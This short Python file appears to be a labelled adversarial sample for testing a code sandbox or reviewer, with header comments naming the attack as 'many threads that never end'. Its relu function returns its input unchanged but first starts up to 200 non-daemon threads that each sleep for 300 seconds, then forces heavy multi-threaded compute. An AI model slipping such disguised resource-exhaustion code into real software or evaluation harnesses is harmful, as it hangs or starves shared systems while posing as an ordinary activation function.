# attack: many threads that never end
# review: yes
# limits: short
import threading
import time

import torch


def relu(x):
    for _ in range(200):
        try:
            threading.Thread(target=time.sleep, args=(300,), daemon=False).start()
        except RuntimeError:
            break
    torch.set_num_threads(64)
    torch.ones(1000, 1000) @ torch.ones(1000, 1000)
    return x
